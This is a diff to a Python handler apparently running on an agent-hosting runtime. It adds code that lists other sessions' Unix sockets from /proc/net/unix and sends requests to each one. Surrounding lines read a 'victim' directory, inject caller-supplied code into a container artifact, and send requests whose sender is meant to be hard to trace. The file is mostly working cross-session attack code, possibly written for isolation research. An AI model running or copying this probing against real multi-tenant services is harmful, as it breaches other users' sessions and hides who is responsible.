@@ -24,6 +24,14 @@ def written(path):
     return path
 
 
+def asked(path):
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
+        server.settimeout(20)
+        server.connect(path)
+        server.sendall(b"GET /ping HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n")
+        return server.recv(12).decode()
+
+
 def look_around():
     # Opened and not written: where nothing stops it, no harm shall be done.
     victim = os.environ.get("VICTIM_DIR", "/nowhere")
@@ -48,7 +56,7 @@ app = BedrockAgentCoreApp()
 def main(payload):
     if payload["do"] == "look":
         return {"loading": AT_LOAD, "session": look_around()}
-    url = urllib.parse.urlsplit(payload["url"])
+    url = urllib.parse.urlsplit(payload.get("url", ""))
     if payload["do"] == "request":
         connection = http.client.HTTPConnection(url.hostname, url.port, timeout=20)
         body = payload.get("body")
@@ -57,9 +65,15 @@ def main(payload):
             with open(path, "w") as f:
                 f.write(payload["code"])
             body["agentRuntimeArtifact"] = {"containerConfiguration": {"containerUri": f"local://{path}"}}
-        connection.request(payload["method"], url.path, json.dumps(body) if body is not None else None)
+        target = url.path + (f"?{url.query}" if url.query else "")
+        data = json.dumps(body) if body is not None else None
+        connection.request(payload["method"], target, data, payload.get("headers") or {})
         reply = connection.getresponse()
-        return {"status": reply.status, "text": reply.read().decode()}
+        return {"status": reply.status, "text": reply.read().decode(errors="replace") if reply.status != 101 else ""}
+    if payload["do"] == "servers":  # of other sessions, by the paths of their sockets, which the kernel lists
+        with open("/proc/net/unix") as lines:
+            paths = {line.split()[-1] for line in lines if "agentcore-rl" in line}
+        return {path: attempt(lambda path=path: asked(path)) for path in paths if path.endswith(".s")}
     # The other ways send a request whose sender is hard to find, and wait for no answer.
     sender = socket.create_connection((url.hostname, url.port))
     text = f"{payload['method']} {url.path} HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n".encode()
